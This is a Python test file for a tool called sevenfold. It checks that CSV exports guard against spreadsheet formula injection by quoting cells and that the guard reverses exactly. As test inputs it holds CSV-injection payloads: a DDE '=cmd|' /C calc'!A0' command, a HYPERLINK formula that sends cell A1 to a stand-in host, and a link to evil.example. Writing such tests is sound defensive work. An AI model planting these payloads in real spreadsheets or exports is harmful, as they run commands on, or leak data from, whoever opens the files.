"""CSV exports neutralise spreadsheet formulas (OWASP CSV injection; issue 22 item 10)."""

from __future__ import annotations

import csv

import pyarrow as pa
import pyarrow.csv as pacsv
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sevenfold.cli import main
from sevenfold.interop.tables import export_tables, import_table
from sevenfold.model import case_from_data
from sevenfold.spreadsheet import restore_cell, restore_table, safe_cell, safe_table

from .conftest import small_case_data, without_reports

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
           "\t=1+1", "\r=1+1", "'=1+1"]


def test_formula_prefixes_get_a_quote_and_plain_numbers_do_not():
    assert [safe_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert safe_cell("-5\n") == "'-5\n"  # a line break after it: not a plain number
    for harmless in ("-5", "+1.5e3", "-.5", "plain", "", "a=b", "1-2"):
        assert safe_cell(harmless) == harmless
    assert safe_cell(7) == 7 and safe_cell(None) is None


@given(st.text(max_size=12))
def test_the_guard_is_undone_exactly(text):
    assert restore_cell(safe_cell(text)) == text
    assert restore_table(safe_table(pa.table({"v": [text]})))["v"].to_pylist() == [text]
    assert safe_table(pa.table({"v": [text]}))["v"].to_pylist() == [safe_cell(text)]


def _cells(path):
    with open(path, encoding="utf-8", newline="") as fh:
        return [c for row in csv.reader(fh) for c in row]


def test_fuse_out_and_sources_out(tmp_path, capsys):
    claims = tmp_path / "c.csv"
    pacsv.write_csv(pa.table({"source": ["=cmd|' /C calc'!A0", "b", "c"], "object": ["@SUM(1)"] * 3,
                              "attribute": ["+p"] * 3, "value": ["=HYPERLINK(\"x\")"] * 3}), claims)
    out, sources = tmp_path / "t.csv", tmp_path / "s.csv"
    args = ["fuse", str(claims), "-m", "majority-voting", "--out", str(out), "--sources-out", str(sources)]
    assert main(args) == 0
    cells = _cells(out) + _cells(sources)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(\"x\")" in _cells(out) and "'=cmd|' /C calc'!A0" in _cells(sources)
    # reading a table sevenfold wrote gives the values back (truths reused as --verified or --gold)
    from sevenfold.fusion import read_gold

    assert read_gold(out)["value"].to_pylist() == ["=HYPERLINK(\"x\")"]
    verified = tmp_path / "v.csv"  # a copy: --out may not overwrite an input of the same run
    verified.write_bytes(out.read_bytes())
    assert main([*args, "--verified", str(verified), "--json"]) == 0
    assert "match no stated value" not in capsys.readouterr().err
    assert main([*args, "--raw-cells"]) == 0
    assert "=HYPERLINK(\"x\")" in _cells(out) and "=cmd|' /C calc'!A0" in _cells(sources)


def test_names_match_out(tmp_path, capsys):
    pytest.importorskip("rapidfuzz")
    pairs, out = tmp_path / "p.csv", tmp_path / "o.csv"
    pairs.write_text('a,b\n"=HYPERLINK(""http://x"")",@SUM(1)\nIvan,Iwan\n', encoding="utf-8")
    assert main(["names", "match", "--pairs", str(pairs), "--out", str(out)]) == 0
    assert "'=HYPERLINK(\"http://x\")" in _cells(out) and "'@SUM(1)" in _cells(out)
    assert main(["names", "match", "--pairs", str(pairs), "--out", str(out), "--raw-cells"]) == 0
    assert "=HYPERLINK(\"http://x\")" in _cells(out)


def test_export_csv_is_guarded_and_imports_back_exactly(tmp_path):
    data = small_case_data()
    data["reports"][0]["text"] = "=HYPERLINK(\"http://evil.example\",\"x\")"
    data["reports"][1]["text"] = "-2+3"
    case = case_from_data(data, "t")
    export_tables(case, tmp_path, "csv")
    cells = _cells(tmp_path / "reports.csv")
    assert "'=HYPERLINK(\"http://evil.example\",\"x\")" in cells and "'-2+3" in cells
    back = import_table(tmp_path / "reports.csv", without_reports(case)).case
    assert [r.text for r in back.reports] == [r.text for r in case.reports]
    export_tables(case, tmp_path / "raw", "csv", raw_cells=True)
    assert "=HYPERLINK(\"http://evil.example\",\"x\")" in _cells(tmp_path / "raw" / "reports.csv")
